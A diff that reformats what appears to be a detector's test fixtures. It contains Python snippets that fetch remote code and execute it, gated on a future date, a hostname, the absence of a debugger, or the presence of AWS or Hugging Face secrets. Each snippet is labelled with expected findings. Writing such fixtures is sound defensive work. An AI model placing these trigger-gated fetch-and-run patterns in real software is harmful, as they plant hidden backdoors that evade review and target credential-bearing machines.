@@ -7,12 +7,48 @@ const LOAD = ["import os, requests, socket, sys, time", "from datetime import da
 const FETCHED = `${RUN}(requests.get(address).text)`;
 
 export const examples: readonly Example[] = [
-  python("A payload that waits for a day", ["4 high"], ...LOAD, "if datetime.now() > datetime(2027, 1, 1):", `    ${FETCHED}`),
-  python("Through variables and a function", ["4 high"], ...LOAD, "def later():", `    ${FETCHED}`, "today = date.today()", "if today.month == 4:", "    later()"),
-  python("Behind an early return", ["6 high"], ...LOAD, "def step():", '    if time.strftime("%Y%m%d") < "20270101":', "        return", `    ${FETCHED}`, "step()"),
-  python("On one machine only", ["4 medium"], ...LOAD, 'if socket.gethostname().startswith("gpu-"):', '    os.system("./helper")'),
+  python(
+    "A payload that waits for a day",
+    ["4 high"],
+    ...LOAD,
+    "if datetime.now() > datetime(2027, 1, 1):",
+    `    ${FETCHED}`,
+  ),
+  python(
+    "Through variables and a function",
+    ["4 high"],
+    ...LOAD,
+    "def later():",
+    `    ${FETCHED}`,
+    "today = date.today()",
+    "if today.month == 4:",
+    "    later()",
+  ),
+  python(
+    "Behind an early return",
+    ["6 high"],
+    ...LOAD,
+    "def step():",
+    '    if time.strftime("%Y%m%d") < "20270101":',
+    "        return",
+    `    ${FETCHED}`,
+    "step()",
+  ),
+  python(
+    "On one machine only",
+    ["4 medium"],
+    ...LOAD,
+    'if socket.gethostname().startswith("gpu-"):',
+    '    os.system("./helper")',
+  ),
   python("Not under a debugger", ["4 high"], ...LOAD, "if sys.gettrace() is None:", `    ${FETCHED}`),
-  python("Where certain secrets are", ["4 high"], ...LOAD, 'if os.environ.get("AWS_SECRET_ACCESS_KEY"):', `    ${FETCHED}`),
+  python(
+    "Where certain secrets are",
+    ["4 high"],
+    ...LOAD,
+    'if os.environ.get("AWS_SECRET_ACCESS_KEY"):',
+    `    ${FETCHED}`,
+  ),
   python("Where they are, in one expression", ["3 high"], ...LOAD, `"HF_TOKEN" in os.environ and ${FETCHED}`),
   python(
     "Conditions that everybody writes",
